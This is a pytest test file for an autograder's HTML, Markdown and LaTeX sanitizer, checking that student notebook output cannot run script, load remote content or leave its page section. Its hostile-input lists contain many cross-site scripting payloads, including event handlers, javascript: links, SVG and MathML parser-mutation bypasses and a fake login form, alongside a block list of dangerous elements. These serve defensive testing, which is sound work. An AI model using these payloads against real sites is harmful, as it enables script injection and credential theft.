"""What a student wrote cannot run, load or leave its place on a page; what it shows is kept."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest
from bleach._vendor import html5lib  # parses as a browser does; nbconvert brings bleach

from autograder.safe.html import clean, formula
from autograder.safe.markdown import markdown

HTML, MATHML = "{http://www.w3.org/1999/xhtml}", "{http://www.w3.org/1998/Math/MathML}"
# Elements that run, load, submit, restyle, or switch the parser into another mode.
FORBIDDEN = re.compile(
    "script|style|link|meta|base|title|iframe|frame|frameset|object|embed|applet|param|form|input|"
    "button|select|option|textarea|keygen|isindex|dialog|svg|image|video|audio|source|track|canvas|"
    "template|slot|noscript|noembed|noframes|plaintext|xmp|listing|marquee|portal|map|area|bgsound|"
    "maction|mglyph|malignmark|annotation|annotation-xml|semantics|foreignobject"
)
ALLOWED_ATTRIBUTES = re.compile(
    "class|title|lang|dir|href|rel|src|alt|width|height|open|colspan|rowspan|scope|display|"
    "displaystyle|scriptlevel|stretchy|fence|form|separator|accent|mathvariant|minsize|maxsize|"
    "linethickness|lspace|rspace|columnalign|rowspacing|columnspacing|align|color|style"
)
# Of styles, those that colour and align what stands there.
STYLE = re.compile(
    r"\s*(color|background-color|font-(style|weight)|text-(align|decoration)):[\w#%., ()-]+;?\s*"
)
LINK = re.compile(r"https?://|mailto:|#")
PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=\s]*$")


def parse(html: str) -> list:
    """Return what a browser makes of a fragment, as a list of elements in it, depth first."""
    return list(html5lib.parseFragment(html).iter())[1:]


def dangers(html: str) -> Iterator[str]:
    for element in parse(html):
        if not isinstance(element.tag, str):
            yield "comment"
            continue
        namespace, name = re.fullmatch(r"(\{.*\})?(.*)", element.tag).groups()
        if namespace not in (HTML, MATHML) or FORBIDDEN.fullmatch(name.lower()):
            yield f"<{name}>"
        for attribute, value in element.attrib.items():
            if not ALLOWED_ATTRIBUTES.fullmatch(str(attribute)):
                yield f"{attribute}="
            if str(attribute) == "style" and not STYLE.fullmatch(value):
                yield f"style={value}"
            if str(attribute) == "href" and not LINK.match(value):
                yield f"href={value}"
            if str(attribute) == "src" and not (name == "img" and PICTURE.match(value)):
                yield f"src={value}"


def assert_harmless(html: str) -> None:
    assert list(dangers(html)) == []
    # A browser that writes the page out and reads it again must not see anything else in it.
    again = html5lib.serialize(html5lib.parseFragment(html), omit_optional_tags=False)
    assert list(dangers(again)) == []
    assert clean(html) == html, "cleaning twice gives something else"
    page = html5lib.parse(
        f"<!DOCTYPE html><body><section>{html}</section><footer>", treebuilder="dom"
    )
    body = page.getElementsByTagName("body")[0]
    assert [node.nodeName for node in body.childNodes] == ["section", "footer"], "left its section"


HOSTILE = {
    "scripts": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
        "<template><script>alert(1)</script></template>",
        "<script type=module>import '//example.org/x.js'</script>",
        "<p>a<script/src=data:,alert(1)>",
    ],
    "event handlers": [
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1)>x</p>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<img/src/onerror=alert(1)>",
        "<math onfocus=alert(1) tabindex=1 autofocus><mi>x</mi></math>",
        "<a href='#' onMouseOver='alert(1)'>x</a>",
    ],
    "links": [
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' JaVa\tScRiPt:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:image/png;base64,AAAA'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='//example.org'>x</a>",
        "<a href='../../gradebook.db'>x</a>",
        "<a href='https://example.org' target=_blank ping=//example.org>x</a>",
        "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    ],
    "pictures from elsewhere": [
        "<img src='https://example.org/a.png'>",
        "<img src='//example.org/a.png'>",
        "<img src='a.png'>",
        "<img srcset='https://example.org/a.png 1x'>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<img src='data:text/html;base64,AAAA'>",
        "<img src=\"data:image/png;base64,AAAA' onerror='alert(1)\">",
        "<img lowsrc=//example.org dynsrc=//example.org>",
        "<picture><source srcset=//example.org/a.png><img></picture>",
        "<table background=//example.org/a.png><tr><td>x</table>",
        "<image src=//example.org/a.png>",
    ],
    "pages and pieces from elsewhere": [
        "<iframe src=//example.org></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//example.org></object>",
        "<embed src=//example.org>",
        "<video src=//example.org poster=//example.org autoplay></video>",
        "<audio src=//example.org autoplay>",
        "<link rel=stylesheet href=//example.org>",
        "<meta http-equiv=refresh content='0;url=//example.org'>",
        "<base href=//example.org>",
    ],
    "forms": [
        "<form action=//example.org><input name=password><button>Log in</button></form>",
        "<button formaction='javascript:alert(1)'>x</button>",
        "<isindex action='javascript:alert(1)' type=image>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<dialog open>Session expired</dialog>",
    ],
    "styles": [
        "<style>@import '//example.org';</style>",
        "<style>body { display: none }</style>",
        "<p style='background: url(//example.org)'>x</p>",
        "<div style='position: fixed; inset: 0; z-index: 9'>10 of 10 points</div>",
        "<p id=top name=top>x</p>",
        "<font color=red style=x>x</font>",
    ],
    "SVG": [
        "<svg onload=alert(1)><circle r=9 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=//example.org></foreignObject></svg>",
        "<svg><use href='//example.org#x'/></svg>",
    ],
    "mutations": [
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><style><img src onerror=alert(1)></style>",
        "<math><annotation-xml encoding=text/html><p title='</annotation-xml><script>x</script>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>--!>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><img src=x onerror=alert(1)>",
        "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><style><img src=x onerror=alert(1)></style></math>",
        "<table><style><p title='</style><img src=x onerror=alert(1)>'></table>",
        "<p title='`onerror=alert(1)'><img alt='`><img src=x onerror=alert(1)>'>"
        "<img src=x onerror=alert(1)>",
        "</section></main></body><script>alert(1)</script>",
    ],
}


@pytest.mark.parametrize(
    "html", [html for group in HOSTILE.values() for html in group], ids=lambda html: html[:50]
)
def test_hostile_html_is_harmless(html):
    assert list(dangers(html)), "this is no example of anything"
    for cleaned in (clean(html), markdown(html), markdown(f"- text {html} text")):
        assert_harmless(cleaned)


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](https://example.org/a.png)",
        '![x" onerror="alert(1)](a.png "t\\" onerror=\\"alert(1)")',
        "```html\n<script>alert(1)</script>\n```",
        '```x"><script>alert(1)</script>\ny\n```',
        "`<script>alert(1)</script>`",
        "# <script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "a | b\n--|--\n<script>alert(1)</script> | <img src=x onerror=alert(1)>",
        "<div>\n\n**x**\n\n<script>\n\nalert(1)\n\n</script>",
        "$\\text{<script>alert(1)</script>}$",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\style{background: url(//example.org)}{x}$",
        "$$</math><img src=x onerror=alert(1)>$$",
        "$\\frac{<img src=x onerror=alert(1)>$",
        "\\begin{<script>alert(1)</script>}x\\end{<script>alert(1)</script>}",
        "<section><div><table><tr><td>",
        "</section></section></main></body></html>",
        "<!-- ",
        "> " * 3000 + "<script>alert(1)</script>",
    ],
    ids=lambda source: source[:50],
)
def test_hostile_markdown_is_harmless(source):
    assert_harmless(markdown(source))


@pytest.mark.parametrize(
    "latex",
    [
        "</math><script>alert(1)</script>",
        "\\text{</mtext></math><img src=x onerror=alert(1)>}",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\unicode{<script>}$",
        "\\frac{<img src=x onerror=alert(1)>",
        "{" * 3000,
        "",
    ],
    ids=lambda latex: latex[:30],
)
def test_hostile_formulas_are_harmless(latex):
    assert_harmless(formula(latex))


@pytest.mark.parametrize(
    ("convert", "first", "piece", "n"),
    [
        pytest.param(clean, "", "<div>", 2500, id="div"),
        pytest.param(clean, "", "<ul><li>", 1200, id="list"),
        pytest.param(markdown, "", r"\begin{a}", 400, id="formula"),
        pytest.param(clean, "", "<div/>", 2800, id="div that looks closed"),
        pytest.param(clean, "", "<div></b>", 2800, id="closed by another"),
        pytest.param(clean, "</b>" * 20_000, "<div>", 2800, id="closed in advance"),
        pytest.param(clean, "", "<a ", 1100, id="tags without an end"),
    ],
)
def test_four_times_the_text_takes_about_four_times_as_long(convert, first, piece, n):
    def seconds(text: str) -> float:
        start = time.process_time()
        convert(text)
        return time.process_time() - start

    once, fourfold = (
        min(seconds(first + piece * k * n) for _ in range(repeats))
        for k, repeats in [(1, 3), (4, 2)]
    )
    assert fourfold < 8 * once + 0.05  # what the clock and the collector of garbage may add


def names(html: str) -> list[str]:
    return [re.sub(r"\{.*\}", "", element.tag) for element in parse(html)]


def text(html: str) -> str:
    return "".join(html5lib.parseFragment(html).itertext())


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "webp"])
def test_a_plot_is_kept_with_its_words(kind):
    source = f"data:image/{kind};base64,iVBORw0KGgo="
    html = f'<img src="{source}" alt="Loss falls from 2.3 to 0.2." width="560">'
    (image,) = parse(clean(html))
    assert image.attrib == {"src": source, "alt": "Loss falls from 2.3 to 0.2.", "width": "560"}
    (_, image) = parse(markdown(f"![Loss]({source})"))
    assert image.attrib == {"src": source, "alt": "Loss"}


def test_a_picture_from_elsewhere_leaves_its_words():
    (image,) = parse(clean('<img src="https://example.org/a.png" alt="A digit">'))
    assert image.attrib == {"alt": "A digit"}


def test_a_data_frame_is_kept_without_its_style():
    frame = """<div><style scoped>.dataframe th { text-align: right }</style>
      <table border="1" class="dataframe">
      <thead><tr><th></th> <th scope="col" colspan="2">cost</th></tr></thead>
      <tbody><tr><th rowspan="2">0</th> <td>2.30 &lt; 3</td></tr></tbody></table></div>"""
    cleaned = clean(frame)
    assert " ".join(names(cleaned)) == "div table thead tr th th tbody tr th td"
    assert text(cleaned).split() == ["cost", "0", "2.30", "<", "3"]
    assert 'rowspan="2"' in cleaned
    assert 'colspan="2"' in cleaned


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("# One\n\n## Two", "h1 h2"),
        ("*a* **b** `c` ~~d~~", "p em strong code del"),
        ("1. a\n2. b", "ol li li"),
        ("> quoted", "blockquote p"),
        ("a | b\n--|--\n1 | 2", "table thead tr th th tbody tr td td"),
        ("<details><summary>a</summary>\n\n*b*\n\n</details>", "details summary p em"),
        ("[a](https://example.org) [b](#c) <d@example.org>", "p a a a"),
        ("H<sub>2</sub>O<br>m<sup>2</sup>", "p sub br sup"),
        ("---", "hr"),
    ],
)
def test_markdown_keeps_its_structure(source, expected):
    assert names(markdown(source)) == expected.split()


def test_ordinary_links_are_kept():
    html = markdown("[a](https://example.org/x?y=1&z=2) [b](http://example.org) [c](#top)")
    links = [element.attrib["href"] for element in parse(html) if element.tag == f"{HTML}a"]
    assert links == ["https://example.org/x?y=1&z=2", "http://example.org", "#top"]


def test_code_is_kept_to_the_letter():
    code = 'if a < b and c > d:\n    print("&amp; <b>")  # <script>'
    assert text(markdown(f"```python\n{code}\n```")).strip() == code
    assert "class=" in markdown(f"```python\n{code}\n```"), "no highlighting left"


@pytest.mark.parametrize(
    ("latex", "elements"),
    [
        (r"x^2 < 3", "msup"),
        (r"\frac{a}{b}", "mfrac"),
        (r"\begin{bmatrix}1 & 2\\3 & 4\end{bmatrix}", "mtable"),
        (r"\sqrt{x}", "msqrt"),
        (r"\bar{z}_{i}^{m} + a_i", "msubsup mover msub"),
        (r"\displaystyle \sigma(z)", "mstyle"),
    ],
)
def test_formulas_become_mathml(latex, elements):
    for html in (formula(latex), formula(f"${latex}$"), formula(f"$${latex}$$")):
        assert_harmless(html)
        assert parse(html)[0].tag == f"{MATHML}math"
        assert set(elements.split()) <= set(names(html))
    for html in (markdown(f"so ${latex}$ holds"), markdown(f"$$\n{latex}\n$$")):
        assert {"math", *elements.split()} <= set(names(html))
    assert "<" in text(formula("x^2 < 3"))


def test_a_comparison_sign_in_a_formula_is_an_operator():
    operators = [
        element.text for element in parse(formula("x < 3")) if element.tag == f"{MATHML}mo"
    ]
    assert operators == ["<"]


def test_a_formula_that_is_none_is_shown_as_it_is():
    assert text(formula(r"\frac{")) == r"\frac{"
    assert names(markdown(r"a $\frac{$ b")) == ["p", "code"]


def test_words_in_a_formula_are_kept():
    shown = text(formula(r"f(x) = \begin{cases} 1 & \text{if a<b or so} \end{cases}"))
    assert "a<b or so" in shown.replace("\xa0", " ")


def test_a_picture_pasted_into_a_cell_leaves_the_cells_text_readable():
    assert "strong" in names(markdown("**My digits**\n\n![digits](attachment:digits.png)"))
